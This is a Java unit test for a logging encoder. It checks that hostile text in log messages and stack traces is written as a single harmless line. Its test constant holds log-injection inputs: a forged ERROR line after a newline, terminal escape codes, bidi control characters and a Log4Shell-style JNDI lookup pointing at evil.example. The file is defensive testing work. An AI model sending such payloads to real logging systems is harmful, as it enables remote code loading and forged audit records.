package dev.yagura.topology;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.spi.LoggingEvent;
import dev.yagura.topology.TextLines.Form;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.slf4j.LoggerFactory;

/** What comes from payloads and requests makes one line, of the log file and of the terminal. */
class LogEscapingTest {
  private static final String HOSTILE =
      "one\n2026-01-01T00:00:00.000Z ERROR forged\r\u001b[31mred\u0000\t\u0085\u2028\u202e\u2066"
          + "${jndi:ldap://evil.example/a} {} %s %n";

  private static String written(Form form, @Nullable Throwable cause) {
    return written(form, "from a payload: {}", cause);
  }

  private static String written(Form form, @Nullable String message, @Nullable Throwable cause) {
    LoggerContext context = (LoggerContext) LoggerFactory.getILoggerFactory();
    TextLines lines = new TextLines(form);
    lines.setContext(context);
    lines.start();
    LoggingEvent event =
        new LoggingEvent(
            "x",
            context.getLogger("dev.yagura.test.of.a.long.name.Logger"),
            Level.WARN,
            message,
            cause,
            new Object[] {HOSTILE});
    event.setInstant(Instant.parse("2026-01-31T09:30:00Z"));
    return new String(lines.encode(event), StandardCharsets.UTF_8);
  }

  private static void isHarmless(String line) {
    assertThat(line).endsWith("\n");
    assertThat(line.substring(0, line.length() - 1).codePoints())
        .noneMatch(
            point ->
                Character.isISOControl(point)
                    || Character.getType(point) == Character.FORMAT
                    || Character.getType(point) == Character.LINE_SEPARATOR);
  }

  @ParameterizedTest
  @EnumSource(Form.class)
  void a_message_is_one_line_and_nothing_in_it_is_understood(Form form) {
    String line = written(form, null);
    isHarmless(line);
    assertThat(line).contains(" WARN  ", "${jndi:ldap://evil.example/a} {} %s %n");
  }

  @Test
  void a_stack_trace_in_the_file_is_on_the_same_line() {
    String line = written(Form.FILE, new IOException(HOSTILE, new IOException("the cause")));
    isHarmless(line);
    assertThat(line)
        .startsWith("2026-01-31T09:30:00.000Z WARN  [")
        .contains("] d.y.t.o.a.l.name.Logger from a payload: one·")
        .contains(
            " java.io.IOException", " | at dev.yagura", "Caused by: java.io.IOException: the");
  }

  /** Some libraries log the message of an error that has none. */
  @ParameterizedTest
  @EnumSource(Form.class)
  void a_record_without_a_message_keeps_its_trace(Form form) {
    assertThat(written(form, null, new IOException("the cause")))
        .contains("Logger null", "java.io.IOException: the cause", "at dev.yagura");
  }

  @Test
  void a_stack_trace_in_the_terminal_has_its_lines_and_steers_nothing() {
    String lines = written(Form.TERMINAL, new IOException(HOSTILE));
    assertThat(lines).matches("(?s)\\d\\d:\\d\\d:00\\.000 WARN  .*").contains("\n\tat dev.yagura");
    isHarmless(lines.replaceAll("[\\n\\t]", "") + "\n");
  }
}
